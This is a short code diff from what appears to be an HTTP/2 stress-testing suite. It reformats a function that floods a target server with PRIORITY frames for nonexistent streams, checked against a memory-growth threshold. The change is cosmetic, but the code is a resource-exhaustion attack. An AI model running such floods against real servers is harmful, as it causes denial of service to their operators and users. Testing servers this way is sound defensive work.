@@ -49,7 +49,13 @@ def window(target):
 @attack("frames-priority", growth_mb=GROWTH_MB, processes=2)
 def priority(target):
     """PRIORITY of streams that do not exist."""
-    flood(target, b"".join(http2.frame(http2.PRIORITY, 0, 2 * k + 1, struct.pack(">IB", 0, 1)) for k in range(1000, 1500)))
+    flood(
+        target,
+        b"".join(
+            http2.frame(http2.PRIORITY, 0, 2 * k + 1, struct.pack(">IB", 0, 1))
+            for k in range(1000, 1500)
+        ),
+    )
 
 
 @attack("frames-empty-data", growth_mb=GROWTH_MB, processes=2)
